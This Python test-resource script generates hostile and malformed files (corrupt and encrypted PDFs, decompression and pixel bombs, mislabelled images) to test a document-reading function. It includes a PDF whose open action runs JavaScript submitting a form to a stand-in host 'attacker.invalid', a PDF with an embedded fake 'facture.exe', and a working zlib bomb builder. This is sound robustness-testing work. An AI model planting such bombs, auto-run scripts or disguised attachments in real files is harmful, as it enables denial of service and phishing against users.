"""Build the hostile and odd input files the reading tests feed to
`load_pages` (see README.md next to this file for what each one is).

Run `python tests/resources/make_resources.py OUT_DIR` to look at them; the
tests call `build(out_dir)` into a temporary folder, so nothing binary is
kept in the repository and every file is rebuilt the same way each time.
"""
from __future__ import annotations

import io
import struct
import sys
import zlib
from pathlib import Path

from PIL import Image, ImageDraw, ImageFont

FONT = "/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"


def build(out: Path) -> dict[str, Path]:
    """Write every resource into `out`; returns name → path."""
    out.mkdir(parents=True, exist_ok=True)
    files: dict[str, bytes] = {}
    bill_lines = ["Facture d'électricité n° 12345", "Montant total TTC : 1 234,56 €"]
    good_pdf = _simple_pdf(bill_lines)
    files["good.pdf"] = good_pdf
    files["empty.pdf"] = b""
    files["truncated.pdf"] = good_pdf[: len(good_pdf) * 6 // 10]
    files["xref_offsets_wrong.pdf"] = _shift_xref(good_pdf)
    files["garbage_body.pdf"] = _garbage_body(good_pdf)
    files["html_named.pdf"] = (
        b"<!DOCTYPE html><html><head><title>Facture</title></head><body><p>Votre facture</p></body></html>\n"
    )
    files["jpeg_named.pdf"] = _jpeg(_text_image(["Facture"], (400, 300)))
    files["encrypted_user_password.pdf"] = _encrypt(good_pdf, user="secret", owner="owner")
    files["encrypted_owner_only.pdf"] = _encrypt(good_pdf, user="", owner="owner")
    files["too_many_pages.pdf"] = _simple_pdf(["Page"] * 1, pages=25)
    files["pdf_image_bomb.pdf"] = _pdf_with_image(100_000, 100_000)
    files["pdf_no_pages.pdf"] = _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])
    files["pdf_page_loop.pdf"] = _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
    ])

    sane = ("Facture d'électricité du 9 avril 2024 . Montant total TTC : 218,31 € . Période de consommation "
            "du 28/02/2024 au 28/03/2024 . Point de livraison 11366870047528 . Abonnement Base 12 kVA")
    files["ocr_layer_sane.pdf"] = _scanned_with_invisible_text([sane] * 6)
    garbage = "xqzvt Kwrtpl bMnZq 8f#k Tdwq rXvbn PLKJH qwrtz Zxcvbn mnbvc LKjhg"
    files["ocr_layer_garbage.pdf"] = _scanned_with_invisible_text([garbage] * 6)

    files["text_flood.pdf"] = _text_flood(150_000)
    # Added for the HTTP tests (tests/test_http_*.py).
    files["many_pages.pdf"] = _simple_pdf(["Page"], pages=400)
    files["flate_bomb.pdf"] = _flate_bomb(600)
    files["javascript.pdf"] = _with_javascript(bill_lines)
    files["embedded_file.pdf"] = _with_embedded_file(bill_lines)

    files["bomb.png"] = _png_header_only(100_000, 100_000)
    files["over_limit.png"] = _png_blank(9_000, 8_000)  # 72 Mpx: over 60 Mpx, under Pillow's 2x
    files["zero_size.png"] = _png_header_only(0, 0)
    files["zero_size.bmp"] = _bmp_header(0, 0)
    files["huge_header.jpg"] = _jpeg_declaring(65_000, 65_000)
    files["truncated.jpg"] = _truncate(_jpeg(_text_image(["Facture tronquée"], (800, 1100))), 0.5)
    files["truncated.png"] = _truncate(_png(_text_image(["Facture tronquée"], (800, 1100))), 0.6)
    files["text_named.jpg"] = "Ceci n'est pas une image.\n".encode()
    files["png_named.jpg"] = _png(_text_image(["PNG"], (200, 100)))
    files["exif_rotated.jpg"] = _exif_rotated_jpeg()
    # Motion photos append a video after the JPEG's end marker.
    files["video_after_end.jpg"] = files["exif_rotated.jpg"] + b"\x00\x00\x00\x18ftypmp42" + bytes(range(256)) * 40
    files["multipage.tif"] = _multipage_tiff(3)
    files["transparent.png"] = _transparent_png()
    files["sixteen_bit.png"] = _sixteen_bit_png()
    files["cmyk.jpg"] = _cmyk_jpeg()
    files["gif_named.png"] = _gif()

    paths = {}
    for name, data in files.items():
        path = out / name
        path.write_bytes(data)
        paths[name] = path
    return paths


# ------------------------------------------------------------------- PDFs


def _raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF from numbered object bodies (1 0 obj … in order), with a
    correct xref table and trailer; object 1 is the catalog."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _simple_pdf(lines: list[str], pages: int = 1) -> bytes:
    """Text pages in Helvetica (WinAnsi: French accents print right)."""
    kids = " ".join(f"{4 + 2 * i} 0 R" for i in range(pages)).encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    for _ in range(pages):
        content = b"BT /F1 14 Tf 72 760 Td 18 TL " + b" ".join(
            b"(" + line.encode("cp1252").replace(b"(", b"\\(").replace(b")", b"\\)") + b") '" for line in lines
        ) + b" ET"
        number = len(objects) + 1
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
            b"/Contents %d 0 R >>" % (number + 1)
        )
        objects.append(_stream(content))
    return _raw_pdf(objects)


def _shift_xref(pdf: bytes) -> bytes:
    """Every xref offset off by 7 bytes: the objects are intact, a reader
    that rebuilds the table (PDFium does) still reads the file."""
    head, _, tail = pdf.partition(b"xref\n")
    lines = tail.split(b"\n")
    fixed = []
    for line in lines:
        if line.endswith(b" 00000 n ") and len(line) == 19:
            line = b"%010d 00000 n " % (int(line[:10]) + 7)
        fixed.append(line)
    return head + b"xref\n" + b"\n".join(fixed)


def _garbage_body(pdf: bytes) -> bytes:
    """Header and trailer kept, everything between overwritten with noise:
    nothing left to repair."""
    start, end = 15, pdf.rfind(b"startxref")
    noise = bytes((i * 73 + 41) % 256 for i in range(end - start))
    return pdf[:start] + noise + pdf[end:]


def _encrypt(pdf: bytes, *, user: str, owner: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    writer.encrypt(user_password=user, owner_password=owner, algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _pdf_with_image(width: int, height: int) -> bytes:
    """A page drawing an image that declares width × height pixels, backed
    by a few bytes of compressed data: decoding it would need gigabytes."""
    data = zlib.compress(b"\xff" * 1024, 9)
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 4 0 R >> >> "
        b"/Contents 5 0 R >>",
        _stream(data, b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                      b"/BitsPerComponent 8 /Filter /FlateDecode" % (width, height)),
        _stream(b"q 595 0 0 842 0 0 cm /Im1 Do Q"),
    ])


def _text_flood(count: int) -> bytes:
    """One page whose content stream shows `count` characters in 1 pt type
    (a few KB compressed): reading them one by one would take minutes."""
    rows = b" ".join(b"(" + b"ab" * 250 + b") '" for _ in range(count // 500))
    content = zlib.compress(b"BT /F1 1 Tf 10 830 Td 1 TL " + rows + b" ET", 9)
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
        b"/Contents 4 0 R >>",
        _stream(content, b"/Filter /FlateDecode"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def zlib_bomb(megabytes: int) -> bytes:
    """A zlib stream of `megabytes` MB of spaces, about 1000 times smaller:
    one deflate block repeated after full flushes (each starts afresh), so
    building it does not compress the whole."""
    block = b" " * (1 << 20)
    compressor = zlib.compressobj(9)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeat = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    adler = 1
    for _ in range(megabytes):
        adler = zlib.adler32(block, adler)
    # a final empty fixed-Huffman block, then the checksum of the whole
    return first + repeat * (megabytes - 1) + b"\x03\x00" + struct.pack(">I", adler)


def _flate_bomb(megabytes: int) -> bytes:
    """One page whose content stream is `megabytes` MB of spaces, Flate compressed."""
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        _stream(zlib_bomb(megabytes), b"/Filter /FlateDecode"),
    ])


def _text_page_objects(lines: list[str], first_number: int) -> tuple[bytes, bytes]:
    content = b"BT /F1 14 Tf 72 760 Td 18 TL " + b" ".join(
        b"(" + line.encode("cp1252") + b") '" for line in lines) + b" ET"
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
            b"/Contents %d 0 R" % (first_number + 1))
    return page, _stream(content)


_HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def _with_javascript(lines: list[str]) -> bytes:
    """A readable bill page with JavaScript run on opening (document and
    page actions, document-level script), as a phishing PDF carries."""
    page, content = _text_page_objects(lines, 4)
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(boot) 6 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        _HELVETICA,
        page + b" /AA << /O 6 0 R >> >>",
        content,
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('JS-PAYLOAD-91c2'\\); "
        b"this.submitForm\\('http://attacker.invalid/'\\);) >>",
    ])


def _with_embedded_file(lines: list[str]) -> bytes:
    """A readable bill page with an attached executable (document-level
    embedded file and a file attachment annotation)."""
    payload = b"MZ\x90\x00EMBEDDED-PAYLOAD-7f3a" + bytes(range(256)) * 4
    page, content = _text_page_objects(lines, 4)
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(facture.exe) 6 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        _HELVETICA,
        page + b" /Annots [8 0 R] >>",
        content,
        b"<< /Type /Filespec /F (facture.exe) /UF (facture.exe) /EF << /F 7 0 R >> >>",
        _stream(payload, b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload"),
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 92 620] /FS 6 0 R /Contents (facture.exe) >>",
    ])


def _scanned_with_invisible_text(lines: list[str]) -> bytes:
    """A scanner's output: a full-page image with an invisible (render mode
    3) text layer on top, as OCR software adds."""
    picture = _text_image(["(scan)"], (620, 877)).convert("L")
    pixels = zlib.compress(picture.tobytes(), 9)
    text = b" ".join(
        b"1 0 0 1 60 %d Tm (" % (700 - 40 * i) + line.encode("cp1252") + b") Tj" for i, line in enumerate(lines)
    )
    content = b"q 595 0 0 842 0 0 cm /Im1 Do Q BT 3 Tr /F1 10 Tf " + text + b" ET"
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /XObject << /Im1 4 0 R >> /Font << /F1 6 0 R >> >> /Contents 5 0 R >>",
        _stream(pixels, b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                        b"/BitsPerComponent 8 /Filter /FlateDecode" % picture.size),
        _stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ])


# ----------------------------------------------------------------- images


def _text_image(lines: list[str], size: tuple[int, int]) -> Image.Image:
    image = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(image)
    font = ImageFont.truetype(FONT, max(12, size[1] // 20))
    for i, line in enumerate(lines):
        draw.text((size[0] // 10, size[1] // 10 + i * size[1] // 12), line, fill="black", font=font)
    return image


def _jpeg(image: Image.Image, **kwargs) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=85, **kwargs)
    return buffer.getvalue()


def _png(image: Image.Image) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def _png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header declares the size, with a token of pixel data."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr)
            + _png_chunk(b"IDAT", zlib.compress(b"\x00\xff" * 8)) + _png_chunk(b"IEND", b""))


def _png_blank(width: int, height: int) -> bytes:
    """A real, complete white greyscale PNG (compresses to a few dozen KB)."""
    row = b"\x00" + b"\xff" * width
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", data) + _png_chunk(b"IEND", b"")


def _jpeg_declaring(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header is patched to declare width ×
    height: well formed, but decoding it would need width × height bytes."""
    data = bytearray(_jpeg(Image.new("L", (16, 16), "white")))
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _bmp_header(width: int, height: int) -> bytes:
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 14 + len(info), 0, 0, 14 + len(info)) + info


def _truncate(data: bytes, share: float) -> bytes:
    return data[: int(len(data) * share)]


def _exif_rotated_jpeg() -> bytes:
    """A page photographed sideways, as phones store it: pixels turned 90°
    counter-clockwise and EXIF orientation 6 (turn 90° clockwise to show)."""
    upright = _text_image(["Facture", "Montant 42,00 €"], (600, 800))
    stored = upright.transpose(Image.Transpose.ROTATE_90)  # counter-clockwise
    exif = Image.Exif()
    exif[0x0112] = 6
    return _jpeg(stored, exif=exif.tobytes())


def _multipage_tiff(count: int) -> bytes:
    frames = [_text_image([f"Page {i + 1}"], (850, 1100)).convert("L") for i in range(count)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "TIFF", save_all=True, append_images=frames[1:], dpi=(100, 100),
                   compression="tiff_deflate")
    return buffer.getvalue()


def _transparent_png() -> bytes:
    """Black text on a fully transparent background (RGB under it is black):
    flattened naively it is a black page."""
    image = Image.new("RGBA", (600, 800), (0, 0, 0, 0))
    ImageDraw.Draw(image).text((60, 80), "Facture", fill=(0, 0, 0, 255), font=ImageFont.truetype(FONT, 40))
    return _png(image)


def _sixteen_bit_png() -> bytes:
    """16-bit greyscale: a naive conversion to 8 bits saturates to white."""
    import numpy as np

    array = np.full((800, 600), 60000, dtype=np.uint16)
    array[100:140, 60:400] = 2000  # a dark bar
    return _png(Image.fromarray(array))


def _cmyk_jpeg() -> bytes:
    return _jpeg(_text_image(["Facture CMJN"], (600, 800)).convert("CMYK"))


def _gif() -> bytes:
    buffer = io.BytesIO()
    _text_image(["GIF"], (200, 100)).convert("P").save(buffer, "GIF")
    return buffer.getvalue()


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else Path("hostile")
    for name, path in build(target).items():
        print(f"{path.stat().st_size:>9}  {name}")
